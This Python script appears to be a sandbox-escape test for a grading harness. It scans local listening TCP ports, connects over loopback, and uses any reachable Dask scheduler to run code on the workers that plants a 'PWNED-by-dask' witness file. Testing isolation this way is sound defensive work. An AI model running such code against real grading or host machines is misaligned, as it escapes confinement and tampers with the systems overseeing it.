"""Attack: reach the grader's machine over TCP (the Dask scheduler, any local service).

Finds every listening TCP port in /proc/net/tcp and tcp6 and connects to it on loopback; where
a Dask scheduler answers, it runs code on every Dask worker that writes a witness file into
the folder nngrade was started from. Confined, it has a network namespace of its own: no
listener of the host is there to reach.
"""

import os


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                for line in f.readlines()[1:]:
                    fields = line.split()
                    if fields[3] == "0A":  # LISTEN
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    return sorted(ports)


reached = []
for port in listening_ports() + [8786]:
    import socket

    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.5) as s:
            s.sendall(b"nngrade-attack: loopback\n")
            reached.append(port)
    except OSError:
        pass
    try:
        from distributed import Client

        with Client(f"tcp://127.0.0.1:{port}", timeout=2) as client:

            def plant():
                with open(os.path.join(os.getcwd(), "PWNED-by-dask"), "w") as f:
                    f.write("code ran on a Dask worker")

            client.run(plant)
            client.run_on_scheduler(plant)
    except Exception:
        pass
